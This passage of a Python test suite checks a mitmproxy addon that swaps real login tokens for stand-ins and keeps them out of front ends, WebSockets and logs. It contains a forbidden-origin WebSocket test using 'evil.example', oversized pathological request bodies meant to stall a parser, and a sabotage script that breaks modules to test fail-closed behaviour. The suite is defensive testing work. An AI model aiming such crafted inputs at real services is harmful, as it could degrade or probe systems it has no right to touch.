    api.does = lambda request: json_of(json.dumps(text_of(request)))
    cookie = "; ".join(f"{name}={value}" for name, value in login.page.cookies.items())
    got = login.page.client.get("/me", cookie=cookie, authorization=f"Bearer {login.main}")
    assert login.token not in seen(got)


def test_the_front_end_gets_stand_ins_as_they_are(api: Hoard, proxy_with: ProxyWith) -> None:
    frontend = Upstream()
    client = proxy_with("cookie_auth_prefix=/api", f"cookie_auth_frontend={frontend.url}").client
    page = Page(client)
    got = page.post("/api/auth/sign-in", '{"password": "x"}', content_type=JSON)
    main = json.loads(got.body)["access_token"]
    places = [p for p in TRANSLATED.values() if p[0] != "DELETE"]
    for method, target, headers, body in places:
        more: dict[str, Any] = {name: v.replace("SSS", main) for name, v in headers.items()}
        more |= {"body": body.replace("SSS", main)} if body else {}
        page.request(method, target.replace("SSS", main), **more)
        assert main in text_of(frontend.last)
        without = [(name, value) for name, value in frontend.last.headers if name != "cookie"]
        assert api.last_login[0] not in text_of(Message(frontend.last.start, without, b""))
        assert api.last_login[1] not in text_of(frontend.last)
    frontend.close()


def test_stand_ins_of_one_api_mean_nothing_at_another(
    api: Hoard, login: Login, confdir: Path
) -> None:
    other = Upstream()
    with running(Mitmdump(other.url, confdir=confdir)) as mitmdump:
        theirs = Page(mitmdump.client, dict(login.page.jar))
        theirs.get("/me?access_token=" + login.main, authorization=f"Bearer {login.main}")
    assert login.token not in text_of(other.last)
    other.close()


# WebSockets


def sockets(connection: ServerConnection) -> None:
    """Gives back what it gets, in the ways that the first word says."""
    for message in connection:
        text = message if isinstance(message, str) else message.decode("latin-1")
        told.append(text)
        token = re_token.get("token", "")
        if text == "fragments":
            connection.send([token[:5], token[5:9], token[9:]])
        elif text == "bytes":
            connection.send(b"\0\xff" + token.encode())
        elif text == "close":
            connection.close(1000, token)
        else:
            connection.send(message)


told: list[str] = []
re_token: dict[str, str] = {}


@pytest.fixture(scope="module")
def socket_server() -> Iterator[Server]:
    def http(connection: ServerConnection, request: Request) -> Response | None:
        if "websocket" in request.headers.get("Upgrade", ""):
            return None
        re_token["token"] = f"Ma{next(_numbers)}kQ8vLw2Zr7Xt4Bn6Yc"
        body = json.dumps({"access_token": re_token["token"]}).encode()
        fields = {"Content-Type": JSON, "Content-Length": str(len(body))}
        return Response(200, "OK", SocketHeaders(fields), body)

    with serve(sockets, "127.0.0.1", 0, process_request=http) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def socket_client(
    socket_server: Server, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Client]:
    url = f"http://127.0.0.1:{socket_server.socket.getsockname()[1]}"
    with running(Mitmdump(url, confdir=tmp_path_factory.mktemp("confdir"))) as mitmdump:
        yield mitmdump.client


class Talk(NamedTuple):
    page: Page
    main: str

    def open(self, coding: str | None, origin: str | None = None) -> ClientConnection:
        own = f"http://localhost:{self.page.client.port}"
        cookie = "; ".join(f"{name}={value}" for name, value in self.page.cookies.items())
        return connect(
            own.replace("http", "ws") + "/live",
            additional_headers={"Cookie": cookie},
            origin=Origin(origin or own),
            user_agent_header=USER_AGENT,
            compression=coding,
        )


@pytest.fixture
def talk(socket_client: Client) -> Talk:
    page = Page(socket_client)
    got = page.get("/auth/sign-in?code=1")
    told.clear()
    return Talk(page, json.loads(got.body)["access_token"])


coded = pytest.mark.parametrize("coding", ["deflate", None], ids=["compressed", "plain"])
SAYS = '{"type": "auth", "token": "SSS"}'
MESSAGES: dict[str, tuple[list[str | bytes], list[bool]]] = {
    "a login": ([SAYS], [True]),
    "a login, then a chat": ([SAYS, '{"type": "chat", "token": "SSS"}'], [True, False]),
    "a login in bytes": ([SAYS.encode()], [False]),
    "a chat's text": (['{"type": "chat", "text": "SSS"}'], [False]),
    "a text": (["SSS"], [False]),
    "a text in a member": (['{"token": "this is SSS"}'], [False]),
    "JSON in JSON": (['{"data": "{\\"token\\": \\"SSS\\"}"}'], [False]),
    "too deep": (['{"a": {"b": {"c": {"token": "SSS"}}}}'], [False]),
    "in a list": (['{"tokens": ["SSS"], "list": [{"token": "SSS"}]}'], [False]),
}
MESSAGES_FOR_OTHERS: dict[str, tuple[list[str | bytes], list[bool]]] = {
    "a first message to somebody else": (
        ['{"type": "chat", "to": "x", "data": {"token": "SSS"}}'],
        [False],
    ),
    "a message that speaks of connecting": (
        [SAYS, '{"type": "x", "msg": "please connect", "token": "SSS"}'],
        [True, False],
    ),
}


@coded
@pytest.mark.parametrize(
    ("messages", "translated"),
    [pytest.param(*case, id=name) for name, case in {**MESSAGES, **MESSAGES_FOR_OTHERS}.items()],
)
def test_over_a_websocket_the_login_is_translated_and_what_comes_back_never_holds_it(
    talk: Talk, coding: str | None, messages: list[str | bytes], translated: list[bool]
) -> None:
    token = re_token["token"]
    with talk.open(coding) as socket:
        for message in messages:
            if isinstance(message, str):
                socket.send(message.replace("SSS", talk.main))
            else:
                socket.send(message.replace(b"SSS", talk.main.encode()))
            back = socket.recv(timeout=20)
            assert token not in str(back)
            assert talk.main in str(back)
    assert [token in text for text in told] == translated


@coded
def test_over_a_websocket_no_form_of_a_message_brings_the_token(
    talk: Talk, coding: str | None
) -> None:
    with talk.open(coding) as socket:
        socket.send([SAYS[:20], SAYS[20:].replace("SSS", talk.main)])  # a message in fragments
        assert socket.recv(timeout=20) == SAYS.replace("SSS", talk.main)
        assert re_token["token"] in told[0]
        for what, expected in (
            ("fragments", talk.main),
            ("bytes", b"\0\xff" + talk.main.encode()),
        ):
            socket.send(what)
            assert socket.recv(timeout=20) == expected


def test_a_websocket_ends_for_no_reason_that_holds_the_token(talk: Talk) -> None:
    with talk.open(None) as socket:
        socket.send("close")
        with pytest.raises(ConnectionClosed) as closed:
            socket.recv(timeout=20)
    assert closed.value.rcvd
    assert closed.value.rcvd.reason == talk.main
    assert re_token["token"] != talk.main


def test_no_foreign_page_opens_a_websocket(talk: Talk) -> None:
    for origin in ("http://localhost:1", "null", "https://evil.example"):
        with pytest.raises(Exception, match="403"), talk.open(None, origin):
            pass
    assert not told


# Time


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        ("[" * 200_000, JSON),
        ('{"a":' * 100_000, JSON),
        ("eyJ" * 100_000, "text/html"),
        ("eyJa.eyJa." * 30_000, "text/html"),
        ("<a>b</" * 50_000, "application/xml"),
        ("a=b&" * 75_000, "application/x-www-form-urlencoded"),
        ("<" + "a" * 40_000, "application/xml"),
    ],
    ids=range(7),
)
def test_no_answer_keeps_the_proxy_busy(
    start: Callable[..., Mitmdump], api: Hoard, body: str, kind: str
) -> None:
    client = start().client
    api.does = lambda request: answer(body, Content_Type=kind)
    # What it guards against takes minutes, and the client waits for one.
    assert Page(client).get("/stored?code=1").status


def test_a_page_of_an_earlier_login_does_not_act_with_the_next_one(
    api: Hoard, login: Login
) -> None:
    following = api.log_in(login.page.client, login.page)
    login.bearer("GET", "/me")  # from an older tab
    assert following.token not in api.got


# Failing closed

SABOTAGE = """
import {module} as module
def fail(*args, **kwargs):
    raise ValueError("sabotage")
module.{function} = fail
"""


def test_no_line_of_the_log_has_a_token_that_stands_in_the_path(
    start: Callable[..., Mitmdump], api: Hoard
) -> None:
    mitmdump = start("--set", "flow_detail=0")
    login = api.log_in(mitmdump.client)
    target = f"/sessions/{login.main}"
    again = json_of(json.dumps({"ended": login.token}))
    answers = iter([again, json_of("{}"), answer("{}", 401), answer("{}", 404)])
    api.does = lambda _: next(answers, None) or iter(())
    for _ in range(5):
        login.bearer("DELETE", target)
        assert api.upstream.last.target == f"/sessions/{login.token}"
    mitmdump.wait_for_log("repeats a token in its body")
    mitmdump.wait_for_log(f"DELETE {target} refused")
    fresh = {"access_token": login.token[::-1]}
    api.does = lambda _: json_of(json.dumps(fresh))
    body = '{"password": "x", "username": "me"}'
    login.bearer("POST", f"/auth/revoke/{login.main}", body=body, content_type=JSON)
    mitmdump.ask_to_stop()
    mitmdump.exit_code()
    for token in (login.token, login.refresh_token, fresh["access_token"]):
        assert token.lower() not in mitmdump.log.lower()


@pytest.mark.parametrize(
    ("module", "function", "target", "reaches_api"),
    [
        ("credentials.places", "translate_headers", "/me", False),
        ("credentials.places", "translate_target", "/me?x=stand-x", False),
        ("credentials.stand_ins", "StandIns.__call__", "/me", False),
        ("credentials.session_requests", "may_have_credentials_in_body", "/auth/refresh", False),
        ("credentials.bodies", "translate_body", "/auth/refresh", False),
        ("exchanges.own_cookies", "go_along", "/me", False),
        ("exchanges.page_refresh", "own_flow", "/auth/refresh", False),
        ("exchanges.handing_out", "is_expected", "/auth/refresh", True),
        ("exchanges.handing_out", "hand_out", "/auth/refresh", True),
        ("tokens.login_like", "read_request", "/auth/refresh", False),
        ("tokens.candidates", "find", "/auth/refresh", True),
        ("exchanges.handing_out", "put_stand_ins", "/auth/refresh", True),
        ("exchanges.handing_out", "stand_in", "/auth/refresh", True),
        ("credentials.wallet", "Wallet.give", "/auth/refresh", True),
        ("exchanges.own_cookies", "kept", "/auth/refresh", True),
        ("exchanges.signing_out", "is_one", "/me", True),
        ("exchanges.api", "_replacing", "/me", True),
        ("exchanges.leaks", "replaced", "/me", True),
    ],
)
def test_whatever_fails_no_token_passes(
    start: Callable[..., Mitmdump],
    api: Hoard,
    confdir: Path,
    tmp_path: Path,
    module: str,
    function: str,
    target: str,
    reaches_api: bool,
) -> None:
    login = api.log_in(start().client)
    saboteur = tmp_path / "saboteur.py"
    saboteur.write_text(SABOTAGE.format(module=module, function=function))
    addon = Path(__file__).parent.parent / "addon" / "cookie_auth.py"
    client = start(scripts=(addon, saboteur)).client
    again = login._replace(page=Page(client, login.page.jar))
    api.upstream.received.clear()
    fresh = json.dumps({"access_token": NEW, "old": login.token})
    api.does = lambda request: json_of(fresh, Set_Cookie="sid=1; HttpOnly")
    body = json.dumps({"refresh_token": login.refresh})
    got = again.bearer("POST", target, body=body, content_type=JSON)
    assert got.status == 500
    assert json.loads(got.body)["error"] == "internal"
    assert not {NEW, login.token, login.refresh_token} & set(text_of(got).replace('"', " ").split())
    assert bool(api.upstream.received) is reaches_api
